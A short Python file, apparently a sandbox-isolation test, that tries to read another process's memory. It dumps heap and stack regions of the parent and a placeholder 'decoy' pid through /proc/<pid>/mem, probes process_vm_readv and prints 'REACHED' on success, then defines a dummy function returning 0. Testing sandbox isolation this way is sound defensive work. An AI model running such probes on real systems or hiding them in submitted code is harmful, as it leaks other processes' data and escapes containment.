# tries: to read other processes' memory
import ctypes, os

libc = ctypes.CDLL(None)
for pid in (int("@DECOY@"), os.getppid()):
    try:
        maps = open(f"/proc/{pid}/maps").read()
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps.splitlines():
                if "heap" in line or "stack" in line:
                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
                    memory.seek(low)
                    print(memory.read(min(high - low, 1 << 20)).decode("latin-1"))
    except (OSError, OverflowError):
        pass
    buffer = ctypes.create_string_buffer(16)
    one = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    if libc.process_vm_readv(pid, one, 1, one, 1, 0) >= 0:
        print("REACHED")


def seven(n):
    return 0
